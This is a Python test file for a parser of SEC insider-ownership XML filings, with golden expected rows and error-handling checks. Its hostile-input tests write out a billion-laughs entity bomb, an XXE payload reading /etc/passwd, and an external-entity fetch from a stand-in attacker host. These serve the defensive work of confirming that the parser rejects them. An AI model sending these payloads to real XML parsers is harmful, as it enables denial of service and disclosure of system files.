"""Ownership XML reader: every corpus file, golden filings, hostile and broken input."""
from __future__ import annotations

import datetime as dt
import functools
import re
from collections import Counter
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from lxml import etree

from filingflow.schema import DECIMAL, TABLES
from transforms import ownership_xml
from transforms.errors import ParseError
from transforms.model import ParsedFiling, blank_filing_row, content_filing_id

CORPUS = Path(__file__).resolve().parents[3].parent / "shared" / "corpus"
XML_DIR = CORPUS / "ownership_xml"
FIXTURES = Path(__file__).resolve().parents[3] / "tests" / "support" / "fixtures" / "ownership_xml"
NO_CORPUS = f"shared corpus not found at {CORPUS} (expected in the folder next to the repo)"
XML_NAMES = [p.name for p in sorted(XML_DIR.glob("*.xml"))] if XML_DIR.is_dir() else []
EVERY_XML = XML_NAMES or [pytest.param(None, marks=pytest.mark.skip(reason=NO_CORPUS))]

ERROR_CODES = {"hostile_xml", "malformed_xml", "truncated", "not_ownership_xml", "invalid_value",
               "missing_field", "duplicate_footnote"}
PY_TYPES = {pa.string(): str, pa.int32(): int, pa.int64(): int, pa.bool_(): bool, pa.date32(): dt.date,
            DECIMAL: Decimal, pa.list_(pa.string()): list}
# filings columns an ownership document can state.
FILING_COLUMNS = ("form_type", "is_amendment", "filed_date", "period_of_report", "date_of_original_submission",
                  "issuer_name", "issuer_cik", "issuer_ticker", "not_subject_to_section16", "no_securities_owned",
                  "aff10b5_one", "form3_holdings_reported", "form4_transactions_reported", "remarks")


def corpus_text(name: str) -> str:
    if not XML_DIR.is_dir():
        pytest.skip(NO_CORPUS)
    return (XML_DIR / name).read_text(encoding="utf-8")


@functools.cache
def all_corpus_texts() -> tuple[str, ...]:
    return tuple((XML_DIR / name).read_text(encoding="utf-8") for name in XML_NAMES)


def read_one(text: str) -> ParsedFiling:
    filings = ownership_xml.read(text)
    assert len(filings) == 1
    return filings[0]


def error_of(text: str) -> ParseError:
    with pytest.raises(ParseError) as caught:
        ownership_xml.read(text)
    return caught.value


def row(table: str, **values) -> dict:
    """A full row of `table` (without filing_id): every column not given is None."""
    full = blank_filing_row(table)
    assert set(values) <= set(full), set(values) - set(full)
    full.update(values)
    return full


def ref(table: str, row_index: int, field: str, footnote_id: str) -> dict:
    return {"table_name": table, "row_index": row_index, "field": field, "footnote_id": footnote_id}


def filing(**values) -> dict:
    full = dict.fromkeys(FILING_COLUMNS)
    assert set(values) <= set(full), set(values) - set(full)
    full.update(values)
    return full


def assert_typed(parsed: ParsedFiling) -> None:
    """Every value has its column's Python type and allowed value, and Arrow accepts every table."""
    for table, rows in (("filings", [parsed.filing]), *parsed.rows.items()):
        columns = TABLES[table].column_index
        for r in rows:
            for name, value in r.items():
                column = columns[name]
                if value is None:
                    assert column.nullable or table == "filings" and name not in ("filing_id", "content_id",
                                                                                  "form_type", "is_amendment"), \
                        f"{table}.{name} is required"
                    continue
                assert type(value) is PY_TYPES[column.type], f"{table}.{name} = {value!r}"
                if column.allowed:
                    assert value in column.allowed, f"{table}.{name} = {value!r}"
    parsed.stamp()
    for table, rows in parsed.rows.items():
        TABLES[table].to_arrow(rows)
    TABLES["filings"].to_arrow([parsed.filing])


def minimal_document(body: str = "", document_type: str = "4") -> str:
    return (f'<?xml version="1.0"?>\n<ownershipDocument>\n<documentType>{document_type}</documentType>\n'
            f"<issuer><issuerCik>1</issuerCik><issuerName>X Corp</issuerName></issuer>\n{body}\n"
            f"</ownershipDocument>\n")


# --- every corpus file ------------------------------------------------------------

ELEMENT_TABLES = {
    "nonDerivativeTransaction": "nonderiv_transactions",
    "nonDerivativeHolding": "nonderiv_holdings",
    "derivativeTransaction": "deriv_transactions",
    "derivativeHolding": "deriv_holdings",
    "footnote": "footnotes",
    "reportingOwner": "reporting_owners",
    "ownerSignature": "signatures",
}


@pytest.mark.parametrize("name", EVERY_XML)
def test_corpus_rows_match_the_xml_elements(name):
    text = corpus_text(name)
    assert ownership_xml.sniff(text)
    parsed = read_one(text)
    root = etree.fromstring(ownership_xml.ownership_document_span(text).encode("utf-8"))

    for tag, table in ELEMENT_TABLES.items():
        assert len(parsed.rows.get(table, [])) == sum(1 for _ in root.iter(tag)), table
    xml_ids = Counter(el.get("id") for el in root.iter("footnoteId"))
    assert Counter(r["footnote_id"] for r in parsed.rows.get("footnote_refs", [])) == xml_ids

    # row_index follows document order across transactions and holdings of one table.
    for table_tag, (tx_table, holding_table) in (("nonDerivativeTable", ("nonderiv_transactions", "nonderiv_holdings")),
                                                 ("derivativeTable", ("deriv_transactions", "deriv_holdings"))):
        filed = [el.tag for t in root.iter(table_tag) for el in t if isinstance(el.tag, str)]
        read = {r["row_index"]: tx_table for r in parsed.rows.get(tx_table, [])}
        read |= {r["row_index"]: holding_table for r in parsed.rows.get(holding_table, [])}
        assert [read[i] for i in range(len(read))] == [ELEMENT_TABLES[tag] for tag in filed]

    assert parsed.filing["form_type"] == root.findtext("documentType").strip()
    assert parsed.filing["issuer_cik"] == root.findtext("issuer/issuerCik").strip().zfill(10)
    assert parsed.filing["filing_id"] == parsed.filing["content_id"] == content_filing_id(
        independent_span(text))
    assert parsed.rows["filing_companies"] == [row("filing_companies", company_index=0, role="issuer",
                                                   cik=parsed.filing["issuer_cik"],
                                                   name=parsed.filing["issuer_name"],
                                                   ticker=parsed.filing["issuer_ticker"])]
    assert_typed(parsed)


def independent_span(text: str) -> str:
    return text[text.index("<ownershipDocument"):text.rindex("</ownershipDocument>") + len("</ownershipDocument>")]


@pytest.mark.parametrize("name, expected", [
    ("4_0001562180-25-000280_edgartools_extracted.xml", ref("nonderiv_transactions", 0, "security_title", "F1")),
    ("4_0001562180-25-000280_edgartools_extracted.xml", ref("deriv_transactions", 0, "exercise_date", "F2")),
    ("4_0000950170-25-003585_secsgml_extracted.xml", ref("nonderiv_transactions", 0, "transaction_code", "F1")),
    ("4_0000950170-25-003585_secsgml_extracted.xml", ref("nonderiv_transactions", 1, "price_per_share", "F2")),
])
def test_footnote_ref_sits_on_its_column(name, expected):
    assert expected in read_one(corpus_text(name)).rows["footnote_refs"]


def test_footnote_refs_outside_the_tables():
    text = minimal_document(
        '<reportingOwner><reportingOwnerId><rptOwnerCik>7</rptOwnerCik>'
        '<rptOwnerName>Roe<footnoteId id="F1"/></rptOwnerName></reportingOwnerId>'
        '<footnoteId id="F2"/></reportingOwner>'
        '<nonDerivativeTable><nonDerivativeHolding><securityTitle><value>Common</value></securityTitle>'
        '<transactionCoding><transactionFormType>4</transactionFormType><footnoteId id="F3"/></transactionCoding>'
        '</nonDerivativeHolding></nonDerivativeTable>'
        '<remarks>See note<footnoteId id="F4"/></remarks>')
    parsed = read_one(text)
    assert parsed.rows["footnote_refs"] == [
        ref("reporting_owners", 0, "owner_name", "F1"),
        ref("reporting_owners", 0, "reportingOwner", "F2"),
        ref("nonderiv_holdings", 0, "form_type_code", "F3"),
        ref("filings", 0, "remarks", "F4"),
    ]
    assert parsed.rows["reporting_owners"] == [row("reporting_owners", owner_index=0, owner_cik="0000000007",
                                                   owner_name="Roe")]
    assert parsed.rows["nonderiv_holdings"] == [row("nonderiv_holdings", row_index=0, security_title="Common",
                                                    form_type_code="4")]
    assert parsed.filing["remarks"] == "See note"


# --- golden filings: every field of every row -------------------------------------------

GOLDEN: dict[str, tuple[dict, dict[str, list[dict]]]] = {}
# Multi-owner Form 4 (4 owners, footnote on transaction codes and ownership).
GOLDEN["4_0001209191-20-061962_edgar2data_extracted.xml"] = (
    filing(form_type='4', period_of_report=dt.date(2020, 12, 4), not_subject_to_section16=False,
        issuer_cik='0001505512', issuer_name='Regulus Therapeutics Inc.', issuer_ticker='RGLS',
        is_amendment=False, filed_date=dt.date(2020, 12, 7)),
    {
        'deriv_transactions': [
            row('deriv_transactions', row_index=0,
                security_title='Common Stock Purchase Warrant (right to buy)',
                conversion_or_exercise_price=Decimal('0.7464'), transaction_date=dt.date(2020, 12, 4),
                form_type_code='4', transaction_code='P', equity_swap_involved=False,
                shares=Decimal('5239254'), price_per_share=Decimal('0.125'), acquired_disposed='A',
                shares_owned_after=Decimal('5239254'), exercise_date=dt.date(2020, 12, 4),
                expiration_date=dt.date(2025, 12, 4), underlying_title='Common Stock',
                underlying_shares=Decimal('5239254'), direct_indirect='D'),
            row('deriv_transactions', row_index=1, security_title='Class A-3 Convertible Preferred Stock',
                transaction_date=dt.date(2020, 12, 4), form_type_code='4', transaction_code='P',
                equity_swap_involved=False, shares=Decimal('258707'), price_per_share=Decimal('6.22'),
                acquired_disposed='A', shares_owned_after=Decimal('258707'),
                exercise_date=dt.date(2020, 12, 4), underlying_title='Common Stock',
                underlying_shares=Decimal('2587070'), direct_indirect='D'),
        ],
        'filing_companies': [
            row('filing_companies', company_index=0, role='issuer', cik='0001505512',
                name='Regulus Therapeutics Inc.', ticker='RGLS'),
        ],
        'footnote_refs': [
            ref('nonderiv_transactions', 0, 'transaction_code', 'F1'),
            ref('nonderiv_transactions', 0, 'direct_indirect', 'F2'),
            ref('deriv_transactions', 0, 'transaction_code', 'F1'),
            ref('deriv_transactions', 0, 'direct_indirect', 'F2'),
            ref('deriv_transactions', 1, 'conversion_or_exercise_price', 'F3'),
            ref('deriv_transactions', 1, 'transaction_code', 'F1'),
            ref('deriv_transactions', 1, 'expiration_date', 'F3'),
            ref('deriv_transactions', 1, 'underlying_shares', 'F3'),
            ref('deriv_transactions', 1, 'direct_indirect', 'F2'),
        ],
        'footnotes': [
            row('footnotes', footnote_id='F1',
                text='Acquired from the Issuer pursuant to a Securities Purchase Agreement dated December 1, 2020 with a closing date of December 4, 2020.'),
            row('footnotes', footnote_id='F2',
                text='The securities are directly held by Growth Equity Opportunities Fund V, LLC ("GEO V") and indirectly held by New Enterprise Associates 16, L.P. ("NEA 16"), the sole member of GEO V, NEA Partners 16, L.P. ("NEA Partners"), the sole general partner of NEA 16, NEA 16 GP, LLC ("NEA 16 GP"), the sole general partner of NEA Partners 16, and the individual managers of NEA 16 GP (NEA 16, NEA Partners 16, NEA 16 GP and the individual managers of NEA 16 GP, together, the "Indirect Reporting Persons"). The individual managers of NEA 16 GP are Forest Baskett, Ali Behbahani, Carmen Chang, Anthony A. Florence, Jr., Mohamad Makhzoumi, Josh Makower, Scott D. Sandell, Peter W. Sonsini and Paul Walker. The Indirect Reporting Persons disclaim beneficial ownership within the meaning of Section 16 of the Securities Exchange Act of 1934, as amended, or otherwise of such portion of the securities of the Issuer held by GEO V in which the Indirect Reporting Persons have no pecuinary interest.'),
            row('footnotes', footnote_id='F3',
                text='Each share of Class A-3 Convertible Preferred Stock, par value $0.001 per share ("Class A-3 Preferred Stock"), of the Issuer is convertible at any time into a number of shares of common stock, par value $0.001 ("Common Stock"), of the Issuer at a rate of 10 shares of Common Stock for each share of Class A-3 Preferred Stock, for no additional consideration, in each case subject to customary adjustments under the certificate of designations for the Class A-3 Preferred Stock (the "Certificate of Designations"). Unless converted pursuant to its terms, the Class A-3 Preferred Stock does not expire. The Certificate of Designations prohibits conversion to the extent that the holder, together with its affiliates, would beneficially own in excess of 9.99% of the number of shares of Common Stock outstanding immediately after giving effect to the conversion.'),
        ],
        'nonderiv_transactions': [
            row('nonderiv_transactions', row_index=0, security_title='Common Stock',
                transaction_date=dt.date(2020, 12, 4), form_type_code='4', transaction_code='P',
                equity_swap_involved=False, shares=Decimal('4398602'), price_per_share=Decimal('0.622'),
                acquired_disposed='A', shares_owned_after=Decimal('6451056'), direct_indirect='D'),
        ],
        'reporting_owners': [
            row('reporting_owners', owner_index=0, owner_cik='0001706444',
                owner_name='Growth Equity Opportunities V, LLC', street1='1954 GREENSPRING DRIVE',
                street2='SUITE 600', city='TIMONIUM', state='MD', zip='21093', is_director=False,
                is_officer=False, is_ten_percent_owner=True, is_other=False),
            row('reporting_owners', owner_index=1, owner_cik='0001694560',
                owner_name='New Enterprise Associates 16, L.P.', street1='1954 GREENSPRING DRIVE',
                street2='SUITE 600', city='TIMONIUM', state='MD', zip='21093', is_director=False,
                is_officer=False, is_ten_percent_owner=True, is_other=False),
            row('reporting_owners', owner_index=2, owner_cik='0001712881', owner_name='NEA Partners 16, L.P.',
                street1='1954 GREENSPRING DRIVE', street2='SUITE 600', city='TIMONIUM', state='MD',
                zip='21093', is_director=False, is_officer=False, is_ten_percent_owner=True, is_other=False),
            row('reporting_owners', owner_index=3, owner_cik='0001712882', owner_name='NEA 16 GP, LLC',
                street1='1954 GREENSPRING DRIVE', street2='SUITE 600', city='TIMONIUM', state='MD',
                zip='21093', is_director=False, is_officer=False, is_ten_percent_owner=True, is_other=False),
        ],
        'signatures': [
            row('signatures', signature_index=0, name='Sasha Keough', title='attorney-in-fact', as_filed='/s/ Sasha Keough, attorney-in-fact',
                signed_date=dt.date(2020, 12, 7)),
        ],
    },
)

# Form 3 with noSecuritiesOwned: no table rows at all, empty <footnotes/>.
GOLDEN["3_form3.nosecurities_edgartools.xml"] = (
    filing(form_type='3', period_of_report=dt.date(2021, 12, 31), no_securities_owned=True,
        remarks='Exhibit 24.1 - Power of Attorney', issuer_cik='0000867773', issuer_name='SUNPOWER CORP',
        issuer_ticker='SPWR', is_amendment=False, filed_date=dt.date(2022, 1, 7)),
    {
        'filing_companies': [
            row('filing_companies', company_index=0, role='issuer', cik='0000867773', name='SUNPOWER CORP',
                ticker='SPWR'),
        ],
        'reporting_owners': [
            row('reporting_owners', owner_index=0, owner_cik='0001698764', owner_name='Hegde Vinayak',
                street1='51 RIO ROBLES', city='SAN JOSE', state='CA', zip='95134', is_director=True,
                is_officer=False, is_ten_percent_owner=False, is_other=False),
        ],
        'signatures': [
            row('signatures', signature_index=0,
                name='Lauren Walz', title='attorney-in-fact for Vinayak Hegde',
                as_filed='/s/ Lauren Walz, as attorney-in-fact for Vinayak Hegde',
                signed_date=dt.date(2022, 1, 7)),
        ],
    },
)

# Form 5: Form 3/4 boxes, a gift without price, holdings in both tables.
GOLDEN["5_0000892712-20-000081_edgar2data_extracted.xml"] = (
    filing(form_type='5', period_of_report=dt.date(2019, 12, 31), form3_holdings_reported=False,
        form4_transactions_reported=False, issuer_cik='0001692063', issuer_name='Schneider National, Inc.',
        issuer_ticker='SNDR', is_amendment=False, filed_date=dt.date(2020, 2, 12)),
    {
        'deriv_holdings': [
            row('deriv_holdings', row_index=0, security_title='Class A Common Stock',
                underlying_title='Class B Common Stock', underlying_shares=Decimal('16605900'),
                shares_owned_after=Decimal('16605900'), direct_indirect='I',
                nature_of_ownership='See Footnote 2.'),
        ],
        'filing_companies': [
            row('filing_companies', company_index=0, role='issuer', cik='0001692063',
                name='Schneider National, Inc.', ticker='SNDR'),
        ],
        'footnote_refs': [
            ref('nonderiv_transactions', 0, 'price_per_share', 'F1'),
            ref('deriv_holdings', 0, 'conversion_or_exercise_price', 'F2'),
            ref('deriv_holdings', 0, 'exercise_date', 'F2'),
            ref('deriv_holdings', 0, 'expiration_date', 'F2'),
        ],
        'footnotes': [
            row('footnotes', footnote_id='F1',
                text='Transaction is a gift, therefore price is not applicable.'),
            row('footnotes', footnote_id='F2',
                text="The reporting person's interest in the Class A Common Stock is represented by trust certificates issued by the Schneider National, Inc. Voting Trust and held by the reporting person. Each share of Class A Common Stock will automatically convert into a share of Class B Common Stock on a one-for-one basis upon any transfer of such share of Class A Common Stock in exchange for a trust certificate representing such share, and has no expiration date."),
        ],
        'nonderiv_holdings': [
            row('nonderiv_holdings', row_index=1, security_title='Class B Common Stock',
                shares_owned_after=Decimal('3029320'), direct_indirect='I', nature_of_ownership='By Trusts'),
        ],
        'nonderiv_transactions': [
            row('nonderiv_transactions', row_index=0, security_title='Class B Common Stock',
                transaction_date=dt.date(2019, 3, 5), form_type_code='5', transaction_code='G',
                equity_swap_involved=False, shares=Decimal('16549'), acquired_disposed='A',
                shares_owned_after=Decimal('1537590'), direct_indirect='D'),
        ],
        'reporting_owners': [
            row('reporting_owners', owner_index=0, owner_cik='0001701081', owner_name='Koller Therese A.',
                street1='3101 SOUTH PACKERLAND DRIVE', city='GREEN BAY', state='WI', zip='54313',
                is_director=False, is_officer=False, is_ten_percent_owner=True, is_other=False),
        ],
        'signatures': [
            row('signatures', signature_index=0, name='Dennis F. Connolly P.O.A.', as_filed='Dennis F. Connolly P.O.A.',
                signed_date=dt.date(2020, 2, 12)),
        ],
    },
)

# Form 4 with footnote-only values (exercise price and dates) and a holding between tables.
GOLDEN["4_0001084991-20-000022_edgar2data_extracted.xml"] = (
    filing(form_type='4', period_of_report=dt.date(2020, 4, 28), not_subject_to_section16=False,
        issuer_cik='0001084991', issuer_name='NATURAL GAS SERVICES GROUP INC', issuer_ticker='NGS',
        is_amendment=False, filed_date=dt.date(2020, 4, 30)),
    {
        'deriv_transactions': [
            row('deriv_transactions', row_index=0, security_title='Restricted Stock Units',
                transaction_date=dt.date(2020, 4, 28), form_type_code='4', transaction_code='A',
                equity_swap_involved=False, shares=Decimal('9413'), price_per_share=Decimal('0'),
                acquired_disposed='A', shares_owned_after=Decimal('40676'), underlying_title='Common Stock',
                underlying_shares=Decimal('9413'), direct_indirect='D'),
        ],
        'filing_companies': [
            row('filing_companies', company_index=0, role='issuer', cik='0001084991',
                name='NATURAL GAS SERVICES GROUP INC', ticker='NGS'),
        ],
        'footnote_refs': [
            ref('nonderiv_transactions', 0, 'shares', 'F1'),
            ref('deriv_transactions', 0, 'conversion_or_exercise_price', 'F2'),
            ref('deriv_transactions', 0, 'exercise_date', 'F2'),
            ref('deriv_transactions', 0, 'expiration_date', 'F2'),
        ],
        'footnotes': [
            row('footnotes', footnote_id='F1',
                text="The acquisition reflects an award of Restricted Stock pursuant to the Company's 2019 Equity Incentive Plan. The award vests in one-third annual increments beginning on the first anniversary of the grant date, subject to accelerated vesting under certain circumstances."),
            row('footnotes', footnote_id='F2',
                text='Not Applicable. The acquisition reflects an award of Restricted Stock Units ("RSU") pursuant to the Company\'s 2019 Equity Incentive Plan. Each RSU represents the right to receive one share of Company common stock upon vesting. The award vests in one-third annual increments beginning on the first anniversary of the grant date, subject to accelerated vesting under certain circumstances.'),
        ],
        'nonderiv_holdings': [
            row('nonderiv_holdings', row_index=1, security_title='Common Stock',
                shares_owned_after=Decimal('93025'), direct_indirect='I',
                nature_of_ownership='By Rabbi Trust'),
        ],
        'nonderiv_transactions': [
            row('nonderiv_transactions', row_index=0, security_title='Common Stock',
                transaction_date=dt.date(2020, 4, 28), form_type_code='4', transaction_code='A',
                equity_swap_involved=False, shares=Decimal('84720'), price_per_share=Decimal('5.64'),
                acquired_disposed='A', shares_owned_after=Decimal('476027'), direct_indirect='D'),
        ],
        'reporting_owners': [
            row('reporting_owners', owner_index=0, owner_cik='0001316004',
                owner_name='Taylor Stephen Charles', street1='404 VETERANS AIRPARK LANE', street2='SUITE 300',
                city='MIDLAND', state='TX', zip='79705', is_director=True, is_officer=True,
                is_ten_percent_owner=False, is_other=False, officer_title='Chief Executive Officer'),
        ],
        'signatures': [
            row('signatures', signature_index=0, name='Stephen C. Taylor', as_filed='Stephen C. Taylor', signed_date=dt.date(2020, 4, 30)),
        ],
    },
)

# Hand-made 4/A (tests/support/fixtures): no amendment in the corpus; timezone dates, <value/>, total values.
GOLDEN["4A_amendment_handmade.xml"] = (
    filing(form_type='4/A', period_of_report=dt.date(2020, 3, 23),
        date_of_original_submission=dt.date(2020, 3, 25), not_subject_to_section16=False, aff10b5_one=True,
        remarks='Sold under a 10b5-1 plan.', issuer_cik='0000320193', issuer_name='Example Devices Inc.',
        issuer_ticker='EXDV', is_amendment=True, filed_date=dt.date(2020, 4, 1)),
    {
        'deriv_transactions': [
            row('deriv_transactions', row_index=0, security_title='Total Return Swap',
                transaction_date=dt.date(2020, 3, 23), form_type_code='4', transaction_code='K',
                equity_swap_involved=True, transaction_value=Decimal('250000.00'),
                price_per_share=Decimal('0'), acquired_disposed='A', value_owned_after=Decimal('250000'),
                exercise_date=dt.date(2020, 3, 23), expiration_date=dt.date(2021, 3, 23),
                underlying_title='Common Stock', underlying_value=Decimal('250000'), direct_indirect='I',
                nature_of_ownership='By family trust'),
        ],
        'filing_companies': [
            row('filing_companies', company_index=0, role='issuer', cik='0000320193',
                name='Example Devices Inc.', ticker='EXDV'),
        ],
        'footnote_refs': [
            ref('nonderiv_transactions', 0, 'transaction_code', 'F1'),
            ref('nonderiv_transactions', 0, 'price_per_share', 'F2'),
            ref('deriv_transactions', 0, 'expiration_date', 'F3'),
            ref('deriv_transactions', 0, 'direct_indirect', 'F3'),
        ],
        'footnotes': [
            row('footnotes', footnote_id='F1',
                text='This amendment corrects the number of shares sold, which was misreported in the original filing.'),
            row('footnotes', footnote_id='F2', text='Price not reported; see Remarks.'),
            row('footnotes', footnote_id='F3',
                text='The swap terminates on the earlier of the stated date or a credit event.'),
        ],
        'nonderiv_transactions': [
            row('nonderiv_transactions', row_index=0, security_title='Common Stock',
                transaction_date=dt.date(2020, 3, 23), deemed_execution_date=dt.date(2020, 3, 24),
                form_type_code='4', transaction_code='S', equity_swap_involved=False,
                transaction_timeliness='L', shares=Decimal('1250.5'), acquired_disposed='D',
                shares_owned_after=Decimal('10000.125'), direct_indirect='D'),
        ],
        'reporting_owners': [
            row('reporting_owners', owner_index=0, owner_cik='0001214128', owner_name='Doe Jane',
                street1='1 Harbour Road', city='Hamilton', state='D0', zip='HM 11',
                state_description='BERMUDA', is_director=True, is_officer=False, is_ten_percent_owner=False,
                is_other=True, other_text='Member of 13(d) group'),
        ],
        'signatures': [
            row('signatures', signature_index=0, name='Jane Doe', as_filed='/s/ Jane Doe', signed_date=dt.date(2020, 4, 1)),
            row('signatures', signature_index=1, name='John Roe', title='attorney-in-fact', as_filed='/s/ John Roe, attorney-in-fact',
                signed_date=dt.date(2020, 4, 2)),
        ],
    },
)


def golden_text(name: str) -> str:
    fixture = FIXTURES / name
    return fixture.read_text(encoding="utf-8") if fixture.exists() else corpus_text(name)


@pytest.mark.parametrize("name", list(GOLDEN))
def test_golden_filing(name):
    text = golden_text(name)
    parsed = read_one(text)
    expected_filing, expected_rows = GOLDEN[name]
    filing_id = content_filing_id(independent_span(text))
    assert parsed.filing == {"filing_id": filing_id, "content_id": filing_id, **expected_filing}
    assert sorted(parsed.rows) == sorted(expected_rows)
    for table, rows in expected_rows.items():
        assert parsed.rows[table] == rows, table
    assert_typed(parsed)


# --- one filing, one content id, whatever the wrapper -----------------------------------

def test_same_content_id_from_the_full_submission_and_any_wrapping():
    if not CORPUS.is_dir():
        pytest.skip(NO_CORPUS)
    submission = (CORPUS / "full_submission" / "4_0001084991-20-000022_edgar2data.txt").read_text(encoding="utf-8")
    xml_block = submission[submission.index("<XML>") + len("<XML>"):submission.index("</XML>")]
    extracted = corpus_text("4_0001084991-20-000022_edgar2data_extracted.xml")
    span = ownership_xml.ownership_document_span(extracted)
    expected = read_one(extracted).filing["content_id"]

    assert ownership_xml.ownership_document_span(xml_block) == span
    for wrapped in (xml_block, "\n\n" + span + "\n\n", '\ufeff<?xml version="1.0" encoding="UTF-8"?>\r\n' + span,
                    "<!-- cut from a submission -->" + span.replace("\n", "\r\n")):
        assert read_one(wrapped).filing["content_id"] == expected


# --- sniffing ---------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    '<?xml version="1.0"?>\n<ownershipDocument>',
    '\ufeff  <!-- generated -->\n<?xml version="1.0"?><ownershipDocument>',
    '<ownershipDocument xmlns="http://www.sec.gov/edgar/ownership">',
])
def test_sniff_accepts_ownership_documents(text):
    assert ownership_xml.sniff(text)


@pytest.mark.parametrize("text", [
    "",
    "<SEC-DOCUMENT>0001084991-20-000022.txt\n<SEC-HEADER>\n<XML>\n<ownershipDocument>",
    "<SUBMISSION>\n<XML>\n<ownershipDocument>",
    "<XML>\n<?xml version=\"1.0\"?>\n<ownershipDocument>",
    "<html><body><p>FORM 4</p></body></html>",
    "<?xml version=\"1.0\"?>\n<edgarSubmission><ownershipDocument>",
    "x" * 3000 + "<ownershipDocument>",
])
def test_sniff_refuses_other_content(text):
    assert not ownership_xml.sniff(text)


def test_sniff_refuses_full_submissions_of_the_corpus():
    if not CORPUS.is_dir():
        pytest.skip(NO_CORPUS)
    for path in sorted((CORPUS / "full_submission").iterdir()):
        text = path.read_text(encoding="utf-8", errors="replace")
        assert not ownership_xml.sniff(text), path.name


# --- hostile, malformed, truncated -----------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE ownershipDocument [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ownershipDocument><documentType>4</documentType><remarks>&lol9;</remarks></ownershipDocument>
"""
XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE ownershipDocument [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<ownershipDocument><documentType>4</documentType><remarks>&secret;</remarks></ownershipDocument>
"""
XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE ownershipDocument [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<ownershipDocument><documentType>4</documentType></ownershipDocument>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER], ids=["billion_laughs", "xxe_file",
                                                                                 "xxe_parameter"])
def test_entity_declarations_are_refused(text):
    assert ownership_xml.sniff(text)
    assert error_of(text).code == "hostile_xml"


def test_external_dtd_without_entities_is_neither_fetched_nor_fatal():
    text = minimal_document().replace(
        "<ownershipDocument>", '<!DOCTYPE ownershipDocument SYSTEM "http://attacker.invalid/x.dtd">\n<ownershipDocument>')
    assert read_one(text).filing["form_type"] == "4"


def test_undeclared_entity_is_malformed():
    error = error_of(minimal_document("<remarks>&secret;</remarks>"))
    assert error.code == "malformed_xml"
    assert "secret" in error.detail


def test_malformed_xml_names_the_line():
    text = "\n\n" + minimal_document("<remarks>one</remarksX>")  # the bad tag is on line 7
    error = error_of(text)
    assert error.code == "malformed_xml"
    assert error.detail.startswith("line 7:"), error.detail
    assert "remarks" in error.detail


def test_corpus_file_cut_in_half_is_truncated():
    text = corpus_text("4_0001084991-20-000022_edgar2data_extracted.xml")
    error = error_of(text[:len(text) // 2])
    assert error.code == "truncated"
    assert "never closed" in error.detail


@pytest.mark.parametrize("text, code", [
    ("FORM 4\nTable I", "not_ownership_xml"),
    ('<?xml version="1.0"?><ownershipDocument/>', "missing_field"),
    (minimal_document().replace("<documentType>4</documentType>", ""), "missing_field"),
    (minimal_document(document_type="10-K"), "invalid_value"),
    (minimal_document("<footnotes><footnote>no id</footnote></footnotes>"), "invalid_value"),
    (minimal_document('<footnotes><footnote id="F1">a</footnote><footnote id="F1">b</footnote></footnotes>'),
     "duplicate_footnote"),
    (minimal_document('<remarks>x<footnoteId/></remarks>'), "invalid_value"),
    (minimal_document("<periodOfReport>2020-02-30</periodOfReport>"), "invalid_value"),
    (minimal_document("<aff10b5One>maybe</aff10b5One>"), "invalid_value"),
    (minimal_document().replace("<issuerCik>1<", "<issuerCik>12345678901<"), "invalid_value"),
    ("<ownershipDocument>\ud800</ownershipDocument>", "malformed_xml"),
])
def test_bad_documents_raise_specific_codes(text, code):
    assert error_of(text).code == code


NGS = "4_0001084991-20-000022_edgar2data_extracted.xml"


@pytest.mark.parametrize("old, new, where", [
    ("<value>84720</value>", "<value>lots</value>", "nonDerivativeTransaction #1 <transactionShares>"),
    ("<value>5.64</value>", "<value>5.641234567</value>", "<transactionPricePerShare>: '5.641234567' has more"),
    ("<value>40676</value>", "<value>NaN</value>", "derivativeTransaction #1 <sharesOwnedFollowingTransaction>"),
    ("<value>2020-04-28</value>", "<value>2020-13-45</value>", "<transactionDate>"),
    ("<value>I</value>", "<value>Q</value>", "nonDerivativeHolding #2 <directOrIndirectOwnership>"),
    ("<transactionCode>A</transactionCode>", "<transactionCode>1A</transactionCode>", "<transactionCode>"),
    ("<isDirector>1</isDirector>", "<isDirector>yes sir</isDirector>", "reportingOwner #1 <isDirector>"),
])
def test_garbage_value_is_invalid_value_with_its_place(old, new, where):
    text = corpus_text(NGS)
    assert old in text
    error = error_of(text.replace(old, new, 1))
    assert error.code == "invalid_value"
    assert where in error.detail, error.detail


def test_values_beyond_the_decimal_scale_keep_exact_trailing_zeros():
    text = corpus_text(NGS).replace("<value>5.64</value>", "<value>5.6400000000</value>", 1)
    assert read_one(text).rows["nonderiv_transactions"][0]["price_per_share"] == Decimal("5.64")


def test_default_namespace_reads_the_same_rows():
    text = corpus_text(NGS)
    namespaced = text.replace("<ownershipDocument>", '<ownershipDocument xmlns="http://www.sec.gov/edgar/ownership">')
    assert read_one(namespaced).rows == read_one(text).rows


# --- mutated corpus XML: only ParseError, only typed values -----------------------------------

